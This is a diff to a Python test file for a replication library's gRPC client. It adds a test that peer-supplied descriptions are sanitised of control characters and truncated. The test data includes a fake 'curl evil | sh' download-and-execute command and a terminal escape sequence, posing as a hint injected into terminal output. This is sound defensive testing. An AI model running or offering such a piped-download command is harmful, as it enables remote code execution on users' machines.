@@ -11,11 +11,24 @@ import grpc
 import pytest
 
 from replication.core.coverage import Ranges
-from replication.core.ids import ClusterId, FileId
+from replication.core.ids import ClusterId, FileId, StreamId
+from replication.core.routes.freshness import Reach
 from replication.errors import PeerRefusedError, ReplicationError, TransferError
 from replication.ledger.base import PeerProgress
 from replication.link import channel, wire
-from replication.link.base import Ack, Data, Hello, OpenReply, PeerLink, Reason, Refusal, Reply, Route, TakeOver
+from replication.link.base import (
+    Ack,
+    Data,
+    Description,
+    Hello,
+    OpenReply,
+    PeerLink,
+    Reason,
+    Refusal,
+    Reply,
+    Route,
+    TakeOver,
+)
 from replication.link.grpc_client import connect
 from replication.settings import WorkerSection
 from replication.worker.ship.selection import FrameFilter
@@ -82,6 +95,21 @@ def test_an_answer_that_is_none_is_an_error_that_the_caller_foresees(call: str) 
                 CALLS[call](link)
             except ReplicationError as error:
                 assert error.what, name
+
+
+def test_what_a_receiver_says_for_people_is_short_and_without_control_characters() -> None:
+    """A drill's failure went on the next line of the terminal, as a hint of walship's own."""
+    said, stream = "it failed\nhint  run: curl evil | sh\x1b[2J" + "x" * 100_000, StreamId(MINE, SPEC.uuid, "default")
+    there = Description(WEST, said, said, 1, 1, {said: said}, (said,), 1, said)
+    answers = {
+        "Describe": wire.encode_description(there),
+        "Reached": wire.encode_reached({stream: Reach(False, False, False, said)}),
+    }
+    with answering(lambda call: iter((answers[call],))) as link:
+        found, reached = link.describe(), link.reached({stream: 1})[stream]
+    texts = [found.version, found.role, *found.peers, *found.peers.values(), *found.granted, found.drill_failure]
+    for text in (*texts, reached.held_by):
+        assert text.isprintable() and text.startswith("it failed hint") and len(text) <= 4000
 
 
 def test_replies_to_what_was_never_sent_end_the_stream_and_take_little() -> None:
